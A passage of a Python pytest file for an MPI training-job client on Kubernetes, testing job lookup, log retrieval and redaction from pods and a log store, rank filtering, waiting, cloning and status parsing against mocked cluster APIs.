                             _status_job("b", {"phase": "Failed", "reason": "WorkerOOMKilled", "message": "m"}, runtime="mpi-openmpi-gpu")])
    c = _offline_client(cluster, cluster)
    job = c.get_job("a")
    assert (job.name, job.status.phase, job.status.workers_ready) == ("a", "Running", 2)
    assert [j.name for j in c.list_jobs()] == ["a", "b"]
    assert [j.name for j in c.list_jobs(phase="Failed")] == ["b"]
    assert [j.name for j in c.list_jobs(runtime="mpi-openmpi")] == ["a"]
    assert [r.name for r in c.list_runtimes()] == ["mpi-intel", "mpi-openmpi", "mpi-openmpi-gpu"]
    from mpijob import JobNotFoundError
    with pytest.raises(JobNotFoundError) as e:
        c.get_job("aa")
    assert e.value.suggestion == "a"
    with pytest.raises(InvalidJobError) as e2:
        c.create_job("x", None, workers=1, runtime="mpi-openmp")
    assert e2.value.field == "runtime" and "did you mean 'mpi-openmpi'" in str(e2.value)


def test_get_logs_merges_redacts_and_greps_on_a_mocked_api():
    pods = [_pod("a", "launcher", 0), _pod("a", "node", 0), _pod("a", "node", 1)]
    logs = {"a-launcher-0-0-abcde": "2026-11-22T10:00:00.300Z start password=hunter2\n2026-11-22T10:00:00.500Z rank 0 done\n",
            "a-node-0-0-abcde": "2026-11-22T10:00:00.100Z sshd up\n",
            "a-node-0-1-abcde": "2026-11-22T10:00:00.400Z rank 1 done\n"}
    cluster = _Cluster(jobs=[_status_job("a", {"phase": "Succeeded", "message": "done"})], pods=pods, logs=logs)
    c = _offline_client(cluster, cluster)
    assert c.get_logs("a") == "start password=[REDACTED]\nrank 0 done\n"
    assert c.get_logs("a", worker="all") == ("[worker-0] sshd up\n[launcher] start password=[REDACTED]\n"
                                            "[worker-1] rank 1 done\n[launcher] rank 0 done\n")
    assert c.get_logs("a", worker="all", grep=r"rank \d") == "[worker-1] rank 1 done\n[launcher] rank 0 done\n"
    assert c.get_logs("a", worker=1) == "rank 1 done\n"
    from mpijob import JobNotFoundError
    with pytest.raises(JobNotFoundError, match=r"has 2 Workers \(0 to 1\)"):
        c.get_logs("a", worker=5)
    assert c.last_log_sources == {"worker-1": "pod"}


def _store_client(cluster, stored):
    """An offline client whose cluster keeps a log store holding ``stored`` (label → lines)."""
    from mpijob.backends import KubernetesAPI, KubernetesBackend

    class StoreAPI(KubernetesAPI):
        def log_store_available(self):
            return stored is not None

        def stored_log(self, job, role, index=None, since_seconds=None, end=None):
            label = "launcher" if role == "launcher" else f"worker-{index}"
            lines = [ln for ln in stored.get(label, "").splitlines() if end is None or ln.split(" ")[0] < end]
            return "".join(ln + "\n" for ln in lines)

    return MPIJobClient(backend=KubernetesBackend(StoreAPI("team-a", cluster, cluster)))


def test_get_logs_reads_the_log_store_once_pods_are_gone():
    from mpijob import JobNotFoundError
    job = _status_job("a", {"phase": "Succeeded", "message": "done"})
    job["spec"]["trainer"] = {"numNodes": 2}
    stored = {"launcher": "2026-11-22T10:00:00.300Z [1,0]<stdout>:start password=hunter2\n2026-11-22T10:00:00.500Z [1,1]<stdout>:rank 1 done",
              "worker-0": "2026-11-22T10:00:00.100Z sshd up",
              "worker-1": "2026-11-22T10:00:00.400Z sshd up too"}
    c = _store_client(_Cluster(jobs=[job], pods=[], logs={}), stored)
    assert c.get_logs("a") == "[1,0]<stdout>:start password=[REDACTED]\n[1,1]<stdout>:rank 1 done\n"
    assert c.last_log_sources == {"launcher": "log store"}
    assert c.get_logs("a", worker="all") == ("[worker-0] sshd up\n[launcher] [1,0]<stdout>:start password=[REDACTED]\n"
                                            "[worker-1] sshd up too\n[launcher] [1,1]<stdout>:rank 1 done\n")
    assert c.get_logs("a", rank=1) == "[1,1]<stdout>:rank 1 done\n"
    assert c.get_logs("a", tail=1) == "[1,1]<stdout>:rank 1 done\n"
    assert c.get_logs("a", worker=1) == "sshd up too\n"
    with pytest.raises(JobNotFoundError, match="keeps no log store"):
        c.get_logs("a", source="pods")
    with pytest.raises(InvalidJobError) as e:
        c.get_logs("a", source="stor")
    assert e.value.field == "source" and "use 'auto', 'pods' or 'store'" in str(e.value)
    with pytest.raises(InvalidJobError, match="drop follow=True"):
        c.get_logs("a", source="store", follow=True)
    nostore = _store_client(_Cluster(jobs=[job], pods=[], logs={}), None)
    with pytest.raises(JobNotFoundError, match="this cluster keeps no log store to read once pods are gone"):
        nostore.get_logs("a")
    with pytest.raises(JobNotFoundError, match="source='store': this cluster keeps no log store"):
        nostore.get_logs("a", source="store")


def test_get_logs_puts_rotated_lines_from_the_store_first():
    pods = [_pod("a", "launcher", 0)]
    logs = {"a-launcher-0-0-abcde": "2026-11-22T10:00:05.000Z still here\n"}
    stored = {"launcher": "2026-11-22T10:00:00.000Z rotated away\n2026-11-22T10:00:05.000Z still here"}
    c = _store_client(_Cluster(jobs=[_status_job("a", {"phase": "Running", "message": "m"})], pods=pods, logs=logs), stored)
    assert c.get_logs("a") == "rotated away\nstill here\n"
    assert c.last_log_sources == {"launcher": "log store, then pod"}
    assert c.get_logs("a", source="pods") == "still here\n"
    assert c.get_logs("a", tail=1) == "still here\n"


RANK_VECTORS = json.loads((REPO / "pkg/logs/testdata/rank-vectors.json").read_text())


@pytest.mark.parametrize("v", RANK_VECTORS["lines"], ids=lambda v: v["name"])
def test_rank_tags_as_go_reads_them(v):
    from mpijob import logs as lg
    got = lg.split_rank(v["text"])
    assert got == (None if v["rank"] is None else (v["rank"], v["stream"], v["message"]))


@pytest.mark.parametrize("v", RANK_VECTORS["selections"], ids=lambda v: v["spec"] or "empty")
def test_rank_selections_as_go_reads_them(v):
    from mpijob import logs as lg
    if "error" in v:
        with pytest.raises(ValueError) as e:
            lg.parse_selection(v["spec"])
        assert str(e.value) == v["error"]
    else:
        assert sorted(lg.parse_selection(v["spec"])) == v["ranks"]


def test_get_logs_by_rank_on_a_mocked_api(offline_client):
    pods = [_pod("a", "launcher", 0), _pod("a", "node", 0)]
    logs = {"a-launcher-0-0-abcde": ("2026-11-22T10:00:00.100Z [1,0]<stdout>:rank 0 up\n"
                                     "2026-11-22T10:00:00.200Z [1,1]<stdout>:[rank 1] up\n"
                                     "2026-11-22T10:00:00.300Z mpirun: a line of its own\n"
                                     "2026-11-22T10:00:00.400Z [1,2]<stderr>:RuntimeError: token=abc123\n")}
    cluster = _Cluster(jobs=[_status_job("a", {"phase": "Running", "message": "m"})], pods=pods, logs=logs)
    c = _offline_client(cluster, cluster)
    assert c.get_logs("a", rank=1) == "[1,1]<stdout>:[rank 1] up\n"
    assert c.get_logs("a", rank="1-2") == "[1,1]<stdout>:[rank 1] up\n[1,2]<stderr>:RuntimeError: token=[REDACTED]\n"
    assert c.get_logs("a", rank="7") == ""
    with pytest.raises(InvalidJobError) as e:
        c.get_logs("a", rank="one")
    assert e.value.field == "rank" and "give a rank number" in str(e.value)
    with pytest.raises(InvalidJobError, match="goes with worker=None"):
        c.get_logs("a", rank=1, worker="all")
    with pytest.raises(InvalidJobError, match="rank=True"):
        offline_client.get_logs("a", rank=True)


def test_wait_for_job_on_a_mocked_api(monkeypatch):
    monkeypatch.setattr("time.sleep", lambda s: None)
    from mpijob import JobFailedError
    cluster = _Cluster(jobs=[_status_job("ok", {"phase": "Succeeded", "message": "done"}),
                             _status_job("bad", {"phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 ran out of memory.",
                                                 "nextStep": "See `kubectl mpijob logs NAME --all`."})])
    c = _offline_client(cluster, cluster)
    assert c.wait_for_job("ok", timeout=5).status.phase == "Succeeded"
    assert c.wait_for_job("ok", phases="Running", timeout=5).name == "ok"  # Running is passed on the way
    with pytest.raises(JobFailedError) as e:
        c.wait_for_job("bad", timeout=5)
    assert "WorkerOOMKilled" in str(e.value) and 'client.get_logs("bad", worker="all")' in str(e.value)


def test_clone_job_on_a_mocked_api():
    cluster = _Cluster(jobs=[_status_job("hello", {"phase": "Succeeded", "message": "done"})])
    c = _offline_client(cluster, cluster)
    job = c.clone_job("hello", "hello-4", workers=4, env={"LR": "0.1"})
    assert job.name == "hello-4"
    plural, body = cluster.created[-1]
    assert plural == "trainjobs" and body["spec"]["trainer"]["numNodes"] == 4
    assert body["spec"]["trainer"]["env"] == [{"name": "LR", "value": "0.1"}]
    assert "mpijob.dev/status" not in (body["metadata"].get("annotations") or {})


def test_convert_legacy_needs_no_api():
    c = _offline_client(None, None)  # any API call would fail
    res = c.convert_legacy((REPO / "pkg/legacy/testdata/basic-cpu.yaml").read_text())
    assert res["trainJob"]["kind"] == "TrainJob" and res["notes"]


EVENT_PROOF = json.loads((REPO / "pkg/api/testdata/event-proof.json").read_text())


@pytest.mark.parametrize("v", EVENT_PROOF["vectors"], ids=[v["name"] for v in EVENT_PROOF["vectors"]])
def test_forged_events_match_the_cli(v):
    # The vectors Go's api.ForgedEvent is tested with.
    from mpijob.types import forged_event
    reporters = (v.get("reportingComponent", ""), v.get("sourceComponent", ""), v.get("reportingInstance", ""))
    assert forged_event(v["type"], v["reason"], v["message"], reporters, EVENT_PROOF["eventDigests"]) == v["forged"]


def test_status_keeps_pods_and_transitions_after_they_are_gone():
    from mpijob import JobStatus
    s = {"phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 was killed.",
         "pods": [{"role": "launcher", "index": 0, "pod": "pm-launcher-0-0-a", "node": "n1", "state": "Error (exit 1)", "gone": True},
                  {"role": "worker", "index": 1, "pod": "pm-node-0-1-b", "state": "OOMKilled (exit 137)", "restarts": 2, "gone": True}],
         "history": [{"time": "2026-11-24T06:00:00Z", "phase": "Running", "message": "Running on 2 Workers."},
                     {"time": "2026-11-24T06:05:00Z", "phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 was \x1b[31mkilled."}]}
    obj = {"metadata": {"name": "pm", "annotations": {"mpijob.dev/status": json.dumps(s)}}}
    st = JobStatus.from_trainjob(obj)
    assert [(p.role, p.index, p.state, p.restarts, p.gone) for p in st.pods] == [
        ("launcher", 0, "Error (exit 1)", 0, True), ("worker", 1, "OOMKilled (exit 137)", 2, True)]
    assert [(t.phase, t.reason) for t in st.history] == [("Running", ""), ("Failed", "WorkerOOMKilled")]
    assert st.history[0].time is not None and st.history[0].time.hour == 6
    assert "\x1b" not in st.history[1].message
